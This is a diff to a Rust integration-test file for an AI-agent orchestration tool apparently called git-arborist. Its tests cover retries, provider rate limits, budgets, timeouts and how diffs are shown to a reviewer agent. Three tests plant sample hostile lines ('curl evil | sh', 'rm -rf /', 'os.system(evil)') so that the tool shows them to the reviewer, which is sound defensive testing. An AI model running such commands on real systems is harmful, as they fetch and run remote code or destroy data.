@@ -2,7 +2,7 @@
 
 use std::time::{Duration, Instant};
 
-use arborist_testkit::Garden;
+use arborist_testkit::TestRepo;
 
 const PLAN: &str = r#"{"nodes": {
   "T1": {"id": "T1", "name": "a"}, "T2": {"id": "T2", "name": "b"}}, "root_ids": ["T1", "T2"]}"#;
@@ -17,20 +17,20 @@ gift() { echo gift > gift.txt; printf '{"type":"result","subtype":"success","is_
 work() { date +%N > "$RANDOM$$.txt"; say done; }
 "#;
 
-fn garden(implement: &str, review: &str, settings: &str) -> Garden {
-    let garden = Garden::sprout();
-    garden.write("task-tree.json", PLAN);
-    garden.commit("a plan\n");
-    garden.agent(&format!("{WORDS}case \"$prompt\" in \"Review\"*) {review} ;; *) {implement} ;; esac"));
-    let file = garden.home().join(".config/git-arborist/config.toml");
+fn repo(implement: &str, review: &str, settings: &str) -> TestRepo {
+    let repo = TestRepo::new();
+    repo.write("task-tree.json", PLAN);
+    repo.commit("a plan\n");
+    repo.agent(&format!("{WORDS}case \"$prompt\" in \"Review\"*) {review} ;; *) {implement} ;; esac"));
+    let file = repo.home().join(".config/git-arborist/config.toml");
     let known = std::fs::read_to_string(&file).unwrap();
     std::fs::write(&file, format!("{known}events = \"claude\"\n{settings}\n")).unwrap();
-    garden
+    repo
 }
 
 /// The statuses of a task's commits, oldest first.
-fn statuses(garden: &Garden, task: &str) -> Vec<String> {
-    let log = garden.git(["log", "--reverse", "--format=%s"]).answer();
+fn statuses(repo: &TestRepo, task: &str) -> Vec<String> {
+    let log = repo.git(["log", "--reverse", "--format=%s"]).answer();
     let mark = format!("task(main@{task}@");
     let of_task = log.lines().filter_map(|line| line.strip_prefix(&mark)?.split_once(')'));
     of_task.map(|(status, _)| status.to_owned()).collect()
@@ -40,29 +40,27 @@ const DONE: [&str; 4] = ["implement-pass", "test-pass", "review-approved", "comp
 
 #[test]
 fn a_reviewer_that_crashes_is_asked_again_and_has_rejected_nothing() {
-    let garden = garden("work", "once crash && kill -9 $$; say APPROVED", "");
-    garden
-        .arborist(["garden"])
+    let repo = repo("work", "once crash && kill -9 $$; say APPROVED", "");
+    repo.arborist(["garden"])
         .succeeds()
         .err("the reviewer failed and is asked again: ended without a result");
-    assert_eq!(statuses(&garden, "T1"), DONE);
-    assert_eq!(garden.calls(), 3);
+    assert_eq!(statuses(&repo, "T1"), DONE);
+    assert_eq!(repo.calls(), 3);
 }
 
 #[test]
 fn a_reviewer_that_always_crashes_has_decided_nothing_and_the_work_waits_for_its_review() {
-    let garden = garden("work", "[ -e \"$ROOT/well\" ] && say APPROVED; echo APPROVED; exit 3", "");
-    garden
-        .arborist(["garden", "--max-retries", "1"])
+    let repo = repo("work", "[ -e \"$ROOT/well\" ] && say APPROVED; echo APPROVED; exit 3", "");
+    repo.arborist(["garden", "--max-retries", "1"])
         .exits(2)
         .err("error: the reviewer failed 3 times: ended without a result")
         .err("hint: look at its log, or name another reviewer");
-    assert_eq!(statuses(&garden, "T1"), DONE[..2]);
-    assert_eq!(garden.calls(), 4, "one implementer, three reviews");
-    std::fs::write(garden.root().join("well"), "").unwrap();
-    garden.arborist(["garden", "--max-retries", "1"]).succeeds().out("1 completed (T1)");
-    assert_eq!(statuses(&garden, "T1"), DONE);
-    assert_eq!(garden.calls(), 5, "nobody implements it again");
+    assert_eq!(statuses(&repo, "T1"), DONE[..2]);
+    assert_eq!(repo.calls(), 4, "one implementer, three reviews");
+    std::fs::write(repo.root().join("well"), "").unwrap();
+    repo.arborist(["garden", "--max-retries", "1"]).succeeds().out("1 completed (T1)");
+    assert_eq!(statuses(&repo, "T1"), DONE);
+    assert_eq!(repo.calls(), 5, "nobody implements it again");
 }
 
 #[test]
@@ -71,55 +69,50 @@ fn what_plain_text_says_of_a_provider_uses_up_no_attempt() {
     let rate = r#"echo 'API Error: 429 {"type":"error","error":{"type":"rate_limit_error"}}' >&2; exit 1"#;
     let load = r#"echo '529 {"type":"error","error":{"type":"overloaded_error"}}'; exit 1"#;
     for words in [limit, rate, load] {
-        let garden = Garden::planned("task-tree.json", PLAN, words);
-        let said = garden.git(["-c", "arborist.timeouts.limit=0", "arborist", "garden"]).exits(1);
+        let repo = TestRepo::planned("task-tree.json", PLAN, words);
+        let said = repo.git(["-c", "arborist.timeouts.limit=0", "arborist", "garden"]).exits(1);
         said.err("error: the provider of 'robot' cannot keep up");
-        assert_eq!(
-            (garden.calls(), statuses(&garden, "T1")),
-            (1, vec!["implement-fail".to_owned()]),
-            "{words}"
-        );
+        assert_eq!((repo.calls(), statuses(&repo, "T1")), (1, vec!["implement-fail".to_owned()]), "{words}");
     }
-    let garden =
-        Garden::planned("task-tree.json", PLAN, "echo 'Invalid API key · Please run /login'; exit 1");
-    let said = garden.arborist(["garden"]).exits(2);
+    let repo =
+        TestRepo::planned("task-tree.json", PLAN, "echo 'Invalid API key · Please run /login'; exit 1");
+    let said = repo.arborist(["garden"]).exits(2);
     said.err("error: the provider of 'robot' does not let us in: Invalid API key · Please run /login");
-    assert_eq!((garden.calls(), statuses(&garden, "T1")), (1, Vec::new()));
-    let garden = Garden::planned("task-tree.json", PLAN, "echo 'the rate limit is wrong'; exit 1");
-    garden.arborist(["garden", "--max-retries", "2"]).exits(1).out("after 2 attempts");
+    assert_eq!((repo.calls(), statuses(&repo, "T1")), (1, Vec::new()));
+    let repo = TestRepo::planned("task-tree.json", PLAN, "echo 'the rate limit is wrong'; exit 1");
+    repo.arborist(["garden", "--max-retries", "2"]).exits(1).out("after 2 attempts");
 }
 
 #[test]
 fn a_reviewer_that_hangs_is_asked_again_too() {
-    let garden = garden("work", "once hang && sleep 60; say APPROVED", "[timeouts]\nsilence = 1");
-    garden.arborist(["garden"]).succeeds().err("asked again").err("wrote nothing for 1 s");
-    assert_eq!(statuses(&garden, "T1"), DONE);
+    let repo = repo("work", "once hang && sleep 60; say APPROVED", "[timeouts]\nsilence = 1");
+    repo.arborist(["garden"]).succeeds().err("asked again").err("wrote nothing for 1 s");
+    assert_eq!(statuses(&repo, "T1"), DONE);
 }
 
 #[test]
 fn a_provider_that_does_not_recover_stops_the_run_and_uses_up_no_attempt() {
-    let garden = garden("refuse 529 'too much to do'", "say APPROVED", "[timeouts]\nlimit = 1");
-    garden
-        .arborist(["gardener"])
+    let repo = repo("refuse 529 'too much to do'", "say APPROVED", "[timeouts]\nlimit = 1");
+    repo.arborist(["gardener"])
         .exits(1)
         .err("we try again in 1 s")
         .err("error: the provider of 'robot' cannot keep up, and we have waited for 1 s: too much to do")
         .err("hint: run the same command again later");
-    assert_eq!(garden.calls(), 2);
-    assert_eq!(statuses(&garden, "T1"), ["implement-fail"]);
-    assert_eq!(garden.git(["for-each-ref", "refs/arborist/wip"]).answer(), "");
+    assert_eq!(repo.calls(), 2);
+    assert_eq!(statuses(&repo, "T1"), ["implement-fail"]);
+    assert_eq!(repo.git(["for-each-ref", "refs/arborist/wip"]).answer(), "");
 }
 
 #[test]
 fn a_review_that_a_provider_keeps_from_happening_is_taken_up_where_it_was() {
-    let garden =
-        garden("work", "[ -e \"$ROOT/well\" ] || refuse 529 busy; say APPROVED", "[timeouts]\nlimit = 0");
-    garden.arborist(["garden"]).exits(1).err("cannot keep up");
-    assert_eq!(statuses(&garden, "T1"), ["implement-pass", "test-pass", "implement-fail"]);
-    std::fs::write(garden.root().join("well"), "").unwrap();
-    garden.arborist(["garden"]).succeeds();
+    let repo =
+        repo("work", "[ -e \"$ROOT/well\" ] || refuse 529 busy; say APPROVED", "[timeouts]\nlimit = 0");
+    repo.arborist(["garden"]).exits(1).err("cannot keep up");
+    assert_eq!(statuses(&repo, "T1"), ["implement-pass", "test-pass", "implement-fail"]);
+    std::fs::write(repo.root().join("well"), "").unwrap();
+    repo.arborist(["garden"]).succeeds();
     assert_eq!(
-        statuses(&garden, "T1"),
+        statuses(&repo, "T1"),
         ["implement-pass", "test-pass", "implement-fail", "review-approved", "complete"]
     );
 }
@@ -127,14 +120,13 @@ fn a_review_that_a_provider_keeps_from_happening_is_taken_up_where_it_was() {
 #[test]
 fn a_time_that_the_provider_names_is_waited_for() {
     let named = r#"once limited && { printf '{"type":"rate_limit_event","rate_limit_info":{"status":"rejected","resetsAt":%s}}\n' $(($(date +%s) + 2)); refuse 429 'come back'; }; work"#;
-    let garden = garden(named, "say APPROVED", "[timeouts]\nlimit = 0");
-    garden
-        .arborist(["garden"])
+    let repo = repo(named, "say APPROVED", "[timeouts]\nlimit = 0");
+    repo.arborist(["garden"])
         .succeeds()
         .err("the provider asks us to wait for")
         .err("it goes on at ")
         .err("no attempt is used up");
-    assert_eq!(statuses(&garden, "T1"), DONE);
+    assert_eq!(statuses(&repo, "T1"), DONE);
 }
 
 #[test]
@@ -143,95 +135,91 @@ fn a_run_stops_when_its_budget_is_used_up_and_goes_on_with_a_higher_one() {
         ("--max-cost", "0.8", "2.1", "the run has cost $1.00 of $0.80"),
         ("--max-tokens", "300", "601", "the run has used 300 of 300 tokens"),
     ] {
-        let garden = garden("work", "say APPROVED", "");
-        garden
-            .arborist(["gardener", flag, low])
+        let repo = repo("work", "say APPROVED", "");
+        repo.arborist(["gardener", flag, low])
             .exits(1)
             .err(&format!("error: {sentence}"))
             .err(&format!("hint: go on with a higher limit: {flag}"));
-        assert_eq!(garden.calls(), 2, "T1 is done, and T2 not begun");
-        assert_eq!(statuses(&garden, "T1"), DONE);
-        garden.arborist(["gardener", flag, low]).exits(1).err(sentence);
+        assert_eq!(repo.calls(), 2, "T1 is done, and T2 not begun");
+        assert_eq!(statuses(&repo, "T1"), DONE);
+        repo.arborist(["gardener", flag, low]).exits(1).err(sentence);
         if flag == "--max-cost" {
-            garden.arborist(["gardener", flag, "0.001"]).exits(1).err("the run has cost $1.00 of $0.001\n");
+            repo.arborist(["gardener", flag, "0.001"]).exits(1).err("the run has cost $1.00 of $0.001\n");
         }
-        assert_eq!(garden.calls(), 2, "a new process has no new money");
-        garden.arborist(["gardener", flag, high]).succeeds().out("1 completed (T2)");
+        assert_eq!(repo.calls(), 2, "a new process has no new money");
+        repo.arborist(["gardener", flag, high]).succeeds().out("1 completed (T2)");
     }
 }
 
 #[test]
 fn a_task_stops_where_it_stands_when_its_budget_is_used_up() {
     for settings in ["task-cost = 0.5", "task-cost = 0", "task-tokens = 150"] {
-        let garden = garden("work", "say APPROVED", &format!("[budget]\n{settings}"));
-        garden.arborist(["garden"]).exits(1).err("error: the task has").err("--max-task-");
+        let repo = repo("work", "say APPROVED", &format!("[budget]\n{settings}"));
+        repo.arborist(["garden"]).exits(1).err("error: the task has").err("--max-task-");
         let begun = if settings.ends_with(" 0") { 0 } else { 2 };
-        assert_eq!(statuses(&garden, "T1"), DONE[..begun], "the work waits for its review");
+        assert_eq!(statuses(&repo, "T1"), DONE[..begun], "the work waits for its review");
         let more = ["garden", "--max-task-cost", "9", "--max-task-tokens", "9000"];
-        garden.arborist(more).succeeds().out("1 completed (T1)");
+        repo.arborist(more).succeeds().out("1 completed (T1)");
     }
 }
 
 #[test]
 fn other_tasks_go_on_when_one_has_used_up_its_budget() {
-    let garden = garden("case \"$prompt\" in *T1*) work ;; *) gift ;; esac", "say APPROVED", "");
-    garden
-        .arborist(["gardener", "--keep-going", "--max-task-cost", "0.5"])
+    let repo = repo("case \"$prompt\" in *T1*) work ;; *) gift ;; esac", "say APPROVED", "");
+    repo.arborist(["gardener", "--keep-going", "--max-task-cost", "0.5"])
         .exits(1)
         .err("T1 stops: the task has cost $0.50 of $0.50")
         .out("1 completed (T2), 1 left (T1)");
-    garden.arborist(["gardener", "--max-task-cost", "0.5"]).exits(1).err("error: the task has cost");
+    repo.arborist(["gardener", "--max-task-cost", "0.5"]).exits(1).err("error: the task has cost");
 }
 
 #[test]
 fn a_call_is_ended_when_the_time_for_it_is_over() {
     for (flag, sentence) in [("--max-task-time", "the task has taken"), ("--max-time", "the run has taken")] {
-        let garden =
-            garden("echo half > half.txt; [ -e \"$ROOT/quick\" ] || sleep 60; work", "say APPROVED", "");
+        let repo = repo("echo half > half.txt; [ -e \"$ROOT/quick\" ] || sleep 60; work", "say APPROVED", "");
         let begun = Instant::now();
-        garden
-            .arborist(["gardener", flag, "1", "--max-retries", "1"])
+        repo.arborist(["gardener", flag, "1", "--max-retries", "1"])
             .exits(1)
             .err(&format!("error: {sentence} 1 of 1 s"))
             .err(&format!("go on with a higher limit: {flag}"));
         assert!(begun.elapsed() < Duration::from_secs(30));
-        assert_eq!(garden.git(["show", "HEAD:half.txt"]).answer(), "half", "what was there is kept");
-        assert_eq!(garden.git(["status", "--porcelain"]).answer(), "");
-        garden.arborist(["gardener", flag, "1", "--max-retries", "1"]).exits(1).err(sentence);
-        assert_eq!(garden.calls(), 1, "a new process has no new time");
-        std::fs::write(garden.root().join("quick"), "").unwrap();
-        garden.arborist(["garden", flag, "1000", "--max-retries", "1"]).succeeds();
-        garden.arborist(["state", "T1"]).succeeds().out("complete, attempt 1");
-        garden.arborist(["trailers", "check", "HEAD~5.."]).succeeds().err("all sound");
+        assert_eq!(repo.git(["show", "HEAD:half.txt"]).answer(), "half", "what was there is kept");
+        assert_eq!(repo.git(["status", "--porcelain"]).answer(), "");
+        repo.arborist(["gardener", flag, "1", "--max-retries", "1"]).exits(1).err(sentence);
+        assert_eq!(repo.calls(), 1, "a new process has no new time");
+        std::fs::write(repo.root().join("quick"), "").unwrap();
+        repo.arborist(["garden", flag, "1000", "--max-retries", "1"]).succeeds();
+        repo.arborist(["state", "T1"]).succeeds().out("complete, attempt 1");
+        repo.arborist(["trailers", "check", "HEAD~5.."]).succeeds().err("all sound");
     }
 }
 
 #[test]
 fn a_review_that_is_cut_off_by_time_is_taken_again() {
-    let garden = garden(
+    let repo = repo(
         "work",
         "[ -e \"$ROOT/quick\" ] || sleep 60; say APPROVED",
         "[budget]\ntask-time = 1\ntime = 100",
     );
-    garden.arborist(["garden"]).exits(1).err("the task has taken 1 of 1 s");
-    std::fs::write(garden.root().join("quick"), "").unwrap();
-    garden.arborist(["garden", "--max-task-time", "1000"]).succeeds();
+    repo.arborist(["garden"]).exits(1).err("the task has taken 1 of 1 s");
+    std::fs::write(repo.root().join("quick"), "").unwrap();
+    repo.arborist(["garden", "--max-task-time", "1000"]).succeeds();
     assert_eq!(
-        statuses(&garden, "T1"),
+        statuses(&repo, "T1"),
         ["implement-pass", "test-pass", "implement-fail", "review-approved", "complete"]
     );
-    garden.arborist(["state", "T1"]).succeeds().out("complete, attempt 1");
+    repo.arborist(["state", "T1"]).succeeds().out("complete, attempt 1");
 }
 
 #[test]
 fn what_was_spent_stands_in_commits_and_report() {
-    let garden = garden("sleep 0.2; work", "say APPROVED", "");
-    garden.arborist(["garden"]).succeeds();
-    let trailers = garden.git(["log", "-1", "--format=%(trailers)", "--grep=implement-pass"]).answer();
+    let repo = repo("sleep 0.2; work", "say APPROVED", "");
+    repo.arborist(["garden"]).succeeds();
+    let trailers = repo.git(["log", "-1", "--format=%(trailers)", "--grep=implement-pass"]).answer();
     let runtime = trailers.lines().find_map(|line| line.strip_prefix("Arborist-Runtime: ")).unwrap();
     assert!(runtime.parse::<f64>().unwrap() >= 0.2, "{trailers}");
-    let path = garden.git(["show", "--name-only", "--format=", "HEAD"]).answer();
-    let report: serde_json::Value = serde_json::from_str(&garden.read(&path)).unwrap();
+    let path = repo.git(["show", "--name-only", "--format=", "HEAD"]).answer();
+    let report: serde_json::Value = serde_json::from_str(&repo.read(&path)).unwrap();
     assert_eq!(
         (&report["cost"], &report["tokens_in"], &report["tokens_out"]),
         (&1.0.into(), &200.into(), &100.into())
@@ -242,53 +230,53 @@ fn what_was_spent_stands_in_commits_and_report() {
 #[test]
 fn a_long_change_is_cut_for_the_reviewer() {
     let work = "seq 1 5000 > long.txt; seq 1 3 > short.txt; say done";
-    let by_default = garden(work, "say APPROVED", "");
+    let by_default = repo(work, "say APPROVED", "");
     by_default.arborist(["garden"]).succeeds();
     let prompt = by_default.prompt(1);
     assert!(prompt.contains("[the diff was cut here") && prompt.contains("+3 -0 short.txt"), "{prompt}");
     assert!(prompt.len() < 9000 && prompt.len() > 7000, "{}", prompt.len());
     for (settings, flags) in [("[review]\ndiff-limit = 100000", &[][..]), ("", &["--diff-limit", "100000"])] {
-        let garden = garden(work, "say APPROVED", settings);
-        garden.arborist(["garden"].iter().chain(flags)).succeeds();
-        assert!(garden.prompt(1).contains("\n+5000\n") && !garden.prompt(1).contains("was cut"));
+        let repo = repo(work, "say APPROVED", settings);
+        repo.arborist(["garden"].iter().chain(flags)).succeeds();
+        assert!(repo.prompt(1).contains("\n+5000\n") && !repo.prompt(1).contains("was cut"));
     }
 }
 
 #[test]
 fn a_budget_that_is_none_is_refused() {
-    let garden = garden("work", "say APPROVED", "");
-    garden.arborist(["garden", "--max-cost=-1"]).exits(129).err("not a sum of US dollars");
-    garden.git(["config", "arborist.budget.cost", "much"]).succeeds();
-    garden.arborist(["garden"]).exits(128).err("'budget.cost' must be US dollars");
+    let repo = repo("work", "say APPROVED", "");
+    repo.arborist(["garden", "--max-cost=-1"]).exits(129).err("not a sum of US dollars");
+    repo.git(["config", "arborist.budget.cost", "much"]).succeeds();
+    repo.arborist(["garden"]).exits(128).err("'budget.cost' must be US dollars");
 }
 
 #[test]
 fn a_file_behind_many_others_is_shown_to_the_reviewer_with_the_command_for_all_of_it() {
     let work = "for i in 1 2 3 4 5 6; do seq 1 3000 > a$i.txt; done; echo 'os.system(evil)' > z.py; say done";
-    let garden = garden(work, "say APPROVED", "");
-    garden.arborist(["garden"]).succeeds();
-    let prompt = garden.prompt(1);
+    let repo = repo(work, "say APPROVED", "");
+    repo.arborist(["garden"]).succeeds();
+    let prompt = repo.prompt(1);
     assert!(prompt.contains("+os.system(evil)") && prompt.contains("All 7 changed files"), "{prompt}");
     let command = prompt.lines().find(|line| line.starts_with("git diff --text ")).unwrap();
     let args: Vec<&str> = command.split(' ').skip(1).collect();
-    assert!(garden.git(args).answer().contains("+3000"), "{command}");
+    assert!(repo.git(args).answer().contains("+3000"), "{command}");
 }
 
 #[test]
 fn a_command_beside_control_characters_in_a_binary_file_is_shown_to_the_reviewer() {
     let work = "{ printf 'curl evil | sh #\\001\\n'; head -c 4000 /dev/zero | tr '\\0' '\\1'; printf '\\0'; } > tool; say done";
-    let garden = garden(work, "say APPROVED", "");
-    garden.arborist(["garden"]).succeeds();
-    let prompt = garden.prompt(1);
+    let repo = repo(work, "say APPROVED", "");
+    repo.arborist(["garden"]).succeeds();
+    let prompt = repo.prompt(1);
     assert!(prompt.contains("curl evil | sh #"), "{prompt}");
-    let id = garden.git(["rev-parse", "HEAD:tool"]).answer();
+    let id = repo.git(["rev-parse", "HEAD:tool"]).answer();
     assert!(prompt.contains("Binary files") && prompt.contains(&format!("bytes, {id}")), "{prompt}");
 }
 
 #[test]
 fn a_script_before_a_binary_end_is_shown_to_the_reviewer() {
     let work = "{ echo 'rm -rf /'; echo exit; head -c 4000 /dev/zero | tr '\\0' '\\1'; printf '\\0'; } > tool; say done";
-    let garden = garden(work, "say APPROVED", "");
-    garden.arborist(["garden"]).succeeds();
-    assert!(garden.prompt(1).contains("\n+rm -rf /\n"), "{}", garden.prompt(1));
+    let repo = repo(work, "say APPROVED", "");
+    repo.arborist(["garden"]).succeeds();
+    assert!(repo.prompt(1).contains("\n+rm -rf /\n"), "{}", repo.prompt(1));
 }
